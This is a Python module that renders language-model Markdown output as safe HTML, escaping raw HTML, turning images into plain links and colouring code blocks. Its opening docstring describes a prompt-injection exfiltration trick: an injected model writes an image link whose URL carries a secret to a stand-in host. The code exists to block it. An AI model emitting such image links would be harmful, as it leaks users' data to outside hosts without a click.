"""Model Markdown to safe HTML.

Model output is untrusted: raw HTML in it is shown as text (``html`` off), and
markdown-it refuses ``javascript:``-style links. An image is never fetched: a model
told by a prompt injection to write ``![x](https://host/p.png?d=SECRET)`` would send
out what it has seen the moment the text is drawn, with no click. So a Markdown image
becomes a link showing its text and its URL; only a ``data:`` image of a type we show,
whose bytes are checked, stays inline (it loads nothing). Code fences with a known language
are coloured by Pygments (inline styles, so no stylesheet is needed) when it is
installed. The parser is built on first use so importing this module stays cheap.
"""

from __future__ import annotations

import functools
import html
import logging
import re
from typing import Any

__all__ = ["escape", "highlight_code", "neutralize_html", "render_markdown", "stable_split"]

log = logging.getLogger("hermes_nb.ui")

_PARSER: Any = None


def escape(text: str) -> str:
    """HTML-escape text, quotes included (it may end up inside an attribute)."""
    return html.escape(text, quote=True)


@functools.lru_cache(maxsize=1)
def _formatter() -> Any:
    from pygments.formatters import HtmlFormatter

    return HtmlFormatter(nowrap=True, noclasses=True)


@functools.lru_cache(maxsize=64)
def _lexer(lang: str) -> Any:
    from pygments.lexers import get_lexer_by_name
    from pygments.util import ClassNotFound

    try:
        return get_lexer_by_name(lang)
    except ClassNotFound:
        return None


def highlight_code(code: str, lang: str) -> str:
    """``code`` as coloured HTML spans (no ``<pre>``), or "" for an unknown language."""
    return _highlight(code, lang, "")


def _highlight(code: str, lang: str, _attrs: str) -> str:
    """Colour a fenced block; an empty string tells markdown-it to escape it plainly."""
    if not lang:
        return ""
    try:
        from pygments import highlight

        lexer = _lexer(lang.lower())
    except ImportError:  # pragma: no cover - pygments comes with IPython
        return ""
    if lexer is None:
        return ""
    return str(highlight(code, lexer, _formatter()))


def _parser() -> Any:
    global _PARSER
    if _PARSER is None:
        from markdown_it import MarkdownIt

        md = MarkdownIt("commonmark", {"html": False, "highlight": _highlight})
        md.enable(["table", "strikethrough"])
        md.add_render_rule("image", _render_image)
        _PARSER = md
    return _PARSER


_DATA_IMAGE = re.compile(r"^data:(image/(?:png|jpeg|gif|webp));base64,([A-Za-z0-9+/=\s]+)$", re.I)


def _inline_data_image(src: str) -> bool:
    """A ``data:`` URL of an image type we show whose bytes are that type."""
    match = _DATA_IMAGE.match(src)
    if not match:
        return False
    from hermes_nb.safety.safe_output import image_bundle

    found = image_bundle(match.group(1).lower(), match.group(2))
    return found is not None and match.group(1).lower() in found["data"]


def _render_image(renderer: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
    """An image as a link with its text and URL (never an ``<img>`` that loads itself)."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    if _inline_data_image(src):
        return f'<img src="{escape(src)}" alt="{escape(alt)}" style="max-width:100%"/>'
    label = escape(f"image: {alt}" if alt else "image")
    shown = escape(src if len(src) <= 200 else src[:199] + "…")
    inside_link = sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx]) > 0
    if inside_link or not src:
        return f'<span class="hermes-nb-image-link">[{label}] <code>{shown}</code></span>'
    return (
        f'<span class="hermes-nb-image-link">[{label}] <a href="{escape(src)}" '
        f'rel="noopener noreferrer nofollow" target="_blank">{shown}</a></span>'
    )


def render_markdown(text: str) -> str:
    """Render Markdown to an HTML fragment; raw HTML in ``text`` is escaped, images
    become links (see the module docstring)."""
    return str(_parser().render(text))


def stable_split(text: str, start: int = 0, min_chunk: int = 2000) -> int:
    """Offset after which ``text`` may be rendered apart from what comes before it.

    A streaming renderer re-renders the growing end of a long answer. Cutting it at a
    paragraph boundary outside any code fence lets the part before the cut be rendered
    once and kept. Returns ``start`` when ``text[start:]`` is shorter than
    ``min_chunk`` or has no safe boundary. Rendering the halves apart can differ from
    rendering the whole in rare cases (a loose list split in two, a reference link
    defined later), which is why the final transcript renders the whole text.
    """
    if len(text) - start < min_chunk:
        return start
    best = start
    pos = start
    fence = ""  # the opening fence marker while inside a fenced block
    prev_blank = False
    for line in text[start:].splitlines(keepends=True):
        stripped = line.lstrip(" ")
        indent = len(line) - len(stripped)
        if (
            not fence
            and prev_blank
            and pos - start >= min_chunk // 2
            and stripped.strip()
            and indent == 0
            and line[0] not in "\t"
        ):
            best = pos
        if indent < 4 and stripped.startswith(("```", "~~~")):
            fence = _next_fence(stripped, fence)
        prev_blank = not line.strip()
        pos += len(line)
    return best


def _next_fence(stripped: str, fence: str) -> str:
    """The open code fence after a fence line (``fence`` is the one open before, or "")."""
    marker = stripped[0]
    if not fence:
        return marker * (len(stripped) - len(stripped.lstrip(marker)))
    if stripped.startswith(fence) and not stripped.strip().strip(marker):
        return ""
    return fence


_CODE_SPAN = re.compile(r"(`+)(?:.|\n)*?(?<!`)\1(?!`)")


def _neutral(piece: str) -> str:
    return piece.replace("<", "&lt;").replace("![", "!\\[")


def neutralize_html(text: str) -> str:
    """Markdown with every ``<`` outside code written as ``&lt;`` and every image
    (``![``) written as text.

    For Markdown we hand to someone else's renderer (a saved ``text/markdown``
    output, an export) that may let raw HTML through or fetch images: it reads the
    same, but a tag in model output stays text and an image is not loaded (its text
    and URL show). Code spans and fenced blocks are left alone.
    """
    out: list[str] = []
    fence = ""
    for line in text.splitlines(keepends=True):
        stripped = line.lstrip(" \t")
        if stripped.startswith(("```", "~~~")):
            fence = _next_fence(stripped, fence)
            out.append(line)
            continue
        if fence or ("<" not in line and "![" not in line):
            out.append(line)
            continue
        pieces, last = [], 0
        for match in _CODE_SPAN.finditer(line):
            pieces.append(_neutral(line[last : match.start()]))
            pieces.append(match.group(0))
            last = match.end()
        pieces.append(_neutral(line[last:]))
        out.append("".join(pieces))
    return "".join(out)
